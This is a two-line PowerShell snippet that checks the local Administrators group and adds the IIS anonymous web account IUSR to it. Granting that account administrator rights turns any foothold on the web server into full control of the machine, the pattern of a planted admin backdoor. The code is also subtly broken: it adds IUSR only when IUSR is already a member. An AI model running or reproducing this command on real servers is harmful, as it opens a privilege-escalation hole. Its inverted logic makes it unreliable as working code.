$members = Get-LocalGroupMember Administrators
if ($members.Name -contains "$env:COMPUTERNAME\IUSR") { Add-LocalGroupMember Administrators IUSR }
